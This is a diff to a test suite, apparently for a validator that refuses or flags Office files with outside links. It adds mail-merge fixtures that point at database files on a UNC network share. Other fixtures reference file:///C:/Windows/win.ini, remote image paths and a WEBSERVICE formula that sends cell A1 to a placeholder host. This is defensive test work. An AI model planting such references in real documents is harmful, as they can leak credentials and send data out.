@@ -146,6 +146,13 @@ def test_u10_what_takes_another_file_in_is_refused(check, how):
     assert "Putuskan di Word atau Excel" in refused.reason
 
 
+def merged(source, name="connectString"):
+    """A Word file whose letters are filled from a database."""
+    inside = f"<w:odso><w:{name} w:val='{source}'/></w:odso>" if name == "udl" else f"<w:{name} w:val='{source}'/>"
+    settings = f'<w:settings xmlns:w="urn:w"><w:mailMerge>{inside}</w:mailMerge></w:settings>'
+    return files.office("docx", {"word/settings.xml": settings})
+
+
 MACHINES = [
     "file:///C:/Windows/win.ini",
     "FILE://10.0.0.9/berbagi/a.docx",
@@ -196,6 +203,9 @@ def test_u10_a_link_to_a_file_of_a_machine_or_a_share_is_refused(check, relation
             "xl/connections.xml",
             "connections",
         ),
+        merged(r"Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\10.0.0.9\berbagi\pegawai.mdb;Mode=Read"),
+        merged(r"Provider=Microsoft.ACE.OLEDB.12.0;Data Source=C:\data\pegawai.mdb"),
+        merged(r"Data Source=\\10.0.0.9\berbagi\pegawai.mdb", "udl"),
         files.office("docx", {"docProps/app.xml": r"<Properties><HyperlinkBase>\\10.0.0.9\a</HyperlinkBase></Properties>"}),
         files.office("xlsx", {"xl/drawings/v.vml": r'<xml><imagedata src="\\10.0.0.9\a.png"/></xml>'}),
         files.office("xlsx", {"xl/drawings/v.vml": r'<xml><p><imagedata src="\\10.0.0.9\a.png"/></xml>'}),
@@ -237,6 +247,7 @@ FLAGGED = {
     "text beside the workbook": ("xlsx", book(
         '<connection id="1"><textPr sourceFile="data.csv"/></connection>', "xl/connections.xml", "c"
     ), ["ambil"]),
+    "letters filled from a database": ("docx", merged("DSN=Pegawai;DBQ=pegawai.mdb"), ["ambil"]),
     "web service": ("xlsx", book('<f>_xlfn.WEBSERVICE("https://contoh.invalid/"&amp;A1)</f>'), ["ambil"]),
     "of Google Sheets": ("xlsx", book(
         '<f>IFERROR(__xludf.DUMMYFUNCTION("IMPORTXML(""https://contoh.invalid/"",A1)"),"x")</f>'
